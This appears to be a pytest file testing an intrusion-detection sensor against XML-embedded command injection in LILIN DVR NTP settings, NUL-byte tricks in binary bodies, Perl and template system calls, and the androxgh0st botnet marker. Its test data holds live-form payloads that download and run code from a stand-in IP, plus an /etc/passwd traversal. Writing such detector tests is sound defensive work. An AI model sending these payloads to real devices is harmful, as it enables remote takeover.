"""Round 11 (stop 20, blind batches s and benign 10): XML documents inside values, binary bodies, botnet marks."""
from __future__ import annotations

import pytest

from sensor.detect import verdict
from tests.detect.conftest import req

_XML = [("Content-Type", "text/xml")]


def _dvr(server: str) -> bytes:
    """A LILIN DVR config call: the service file travels as an XML document inside a CDATA section."""
    inner = (f'<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><Service><NTP Enable="True" Interval="20" '
             f'Server="{server}"/></Service></DVR>')
    return (f'<?xml version="1.0" encoding="UTF-8"?><DVR Platform="Hi3520"><SetConfiguration File="service.xml">'
            f'<![CDATA[{inner}]]></SetConfiguration></DVR>').encode()


@pytest.mark.parametrize("server,attack", [
    ("$(cd /tmp;busybox wget http://203.0.113.9/m;sh m)", True),
    ("time.nist.gov&amp;wget http://203.0.113.9/l.arm -O /tmp/l;sh /tmp/l;", True),
    ("time.nist.gov", False),
    ("pool.ntp.org", False),
])
def test_xml_document_inside_a_value_is_parsed(engine, server, attack):
    hits = engine.inspect(req("/dvr/cmd", "POST", _XML, _dvr(server)))
    assert (verdict(hits) == "attack") == attack, hits
    if attack:
        assert any(h.point[-4:] == ["xml_doc", "attr", "NTP", "Server"] and h.type == "rce" for h in hits), hits


def test_xml_doc_points_only_for_an_xml_declaration():
    from sensor.points import extract
    pts = extract(req("/api", "POST", [("Content-Type", "application/x-www-form-urlencoded")],
                      b"soap=%3C%3Fxml+version%3D%221.0%22%3F%3E%3Ca+b%3D%22c%22%2F%3E&html=%3Cp+class%3D%22x%22%3Ehi%3C%2Fp%3E"))
    paths = [p.path for p in pts]
    assert ["post", "form_urlencoded", "soap", "xml_doc", "attr", "a", "b"] in paths
    assert not any("xml_doc" in p and "html" in p for p in paths)  # an HTML fragment is no XML document


_IPP = (b"\x02\x00\x00\x0b\x00\x00\x00\x01\x01G\x00\x12attributes-charset\x00\x05utf-8H\x00\x1battributes-natural-language"
        b"\x00\x05en-usE\x00\x0bprinter-uri\x00\x1fipp://192.168.1.40:631/ipp/print\x03")


@pytest.mark.parametrize("body,ctype,attack", [
    (_IPP, "application/ipp", False),                                  # NULs all through: a binary protocol
    (b"file=../../../../etc/passwd\x00.png", "application/octet-stream", True),
    (b"name=avatar.php\x00.jpg", "text/plain", True),                  # one NUL cutting a file name short
])
def test_nul_bytes_in_binary_bodies(engine, body, ctype, attack):
    hits = engine.inspect(req("/ipp/print", "POST", [("Content-Type", ctype)], body))
    assert (verdict(hits) == "attack") == attack, hits


@pytest.mark.parametrize("value,attack", [
    ('[{"api":"SYNO.Core.System","method":"info","version":3}]', False),   # a dotted API name ending in System
    ('{{ .System "id" }}', True),
    ('system "id"', True),
    ('$out = qx{id}', True),
])
def test_perl_calls_and_dotted_names(engine, value, attack):
    assert (verdict(engine.inspect_value(value)) == "attack") == attack


def test_androxgh0st_checkin_is_a_tool_mark(engine):
    hits = engine.inspect(req("/", "POST", [("Content-Type", "application/x-www-form-urlencoded")], b"0x%5B%5D=androxgh0st"))
    assert "scanner:tool_marker" in {h.rule for h in hits if h.score >= 0.5}
    assert verdict(engine.inspect(req("/?q=androxgh0st+malware+analysis"))) == "clean"  # the name in a search is a word
